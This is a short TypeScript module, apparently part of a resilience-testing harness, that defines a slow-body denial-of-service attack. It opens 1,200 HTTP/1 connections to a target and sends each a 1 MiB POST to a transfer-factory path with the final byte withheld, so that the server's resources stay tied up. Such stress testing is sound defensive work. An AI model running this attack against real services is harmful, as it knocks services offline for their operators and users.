/** Bodies that lack their last byte, each on its own connection. */
import { TRANSFER_FACTORY_PATH } from "../honest/requests.js";
import { keepConnected } from "../wire/crowd.js";
import { countResponses, encodeHead } from "../wire/http1.js";
import type { Attack } from "./attack.js";

export const BODY_BYTES = 1024 * 1024;
const CONNECTIONS = 1_200;

export const bodiesHttp1: Attack = (target, tally, signal) => {
  const head = encodeHead("POST", TRANSFER_FACTORY_PATH, {
    "Content-Type": "application/json",
    "Content-Length": String(BODY_BYTES),
  });
  const body = Buffer.alloc(BODY_BYTES - 1, "[");
  return keepConnected(target, tally, signal, {
    count: CONNECTIONS,
    use(socket) {
      tally.requests++;
      // A response means that the service has given this body up.
      countResponses(socket, tally, () => socket.destroy());
      socket.write(head);
      socket.write(body);
    },
  });
};
